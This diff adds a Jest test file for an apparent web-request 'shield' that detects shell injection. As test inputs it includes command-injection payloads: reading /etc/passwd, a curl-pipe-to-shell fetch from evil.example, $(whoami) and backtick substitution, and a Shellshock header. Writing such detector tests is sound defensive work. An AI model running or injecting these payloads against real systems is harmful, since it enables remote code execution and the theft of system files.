@@ -0,0 +1,61 @@
+import request from 'supertest';
+import { detectMaliciousRequest } from '../../src/shield/lib';
+import { silenceConsole } from '../helpers';
+import { allOff, createApp, createRequest, createShield } from './helpers';
+
+describe('shield detectors', () => {
+    silenceConsole('log');
+
+    describe('shellInjection', () => {
+        const requests = [
+            createRequest({ query: { host: '127.0.0.1; cat /etc/passwd' } }),
+            createRequest({ body: { name: 'x && curl http://evil.example/x.sh | sh' } }),
+            createRequest({ body: { file: 'report-$(whoami).pdf' } }),
+            createRequest({ query: { q: '`id`' } }),
+            createRequest({
+                headers: { host: 'app.example.com', 'user-agent': "() { :; }; /bin/bash -c 'id'" },
+            }),
+        ];
+
+        it.each(requests)('detects command injection when enabled (case %#)', (req) => {
+            const { isSuspicious, attackTypes } = detectMaliciousRequest(req, {
+                ...allOff,
+                shellInjection: true,
+            });
+
+            expect(isSuspicious).toBe(true);
+            expect(attackTypes).toEqual(['Shell Injection']);
+        });
+
+        it('blocks command injection in a JSON body, unless turned off', async () => {
+            const body = { host: '127.0.0.1; ls -la /' };
+
+            const response = await request(createApp(createShield())).post('/').send(body);
+            expect(response.status).toBe(403);
+            expect(response.body.detectedAttacks).toEqual(['Shell Injection']);
+            expect((await request(createApp(createShield({ shellInjection: false }))).post('/').send(body)).status).toBe(
+                200,
+            );
+        });
+
+        it('scores a command on its own too low to block', () => {
+            const req = createRequest({ body: { host: 'example.com; whoami' } });
+            const { anomalyScore, matchedRules } = detectMaliciousRequest(req, { ...allOff, shellInjection: true });
+
+            expect(matchedRules.map((rule) => rule.id)).toEqual(['shell-170']);
+            expect(anomalyScore).toBe(4);
+        });
+
+        it('lets ordinary text and query strings through', () => {
+            const req = createRequest({
+                originalUrl: '/?page=2&id=5&sort=name',
+                query: { page: '2', id: '5', sort: 'name' },
+                body: { message: 'Salt & pepper, please', bio: 'I like cats & dogs; ls is my fav cmd' },
+            });
+
+            expect(
+                detectMaliciousRequest(req, { ...allOff, shellInjection: true }).isSuspicious,
+            ).toBe(false);
+        });
+    });
+});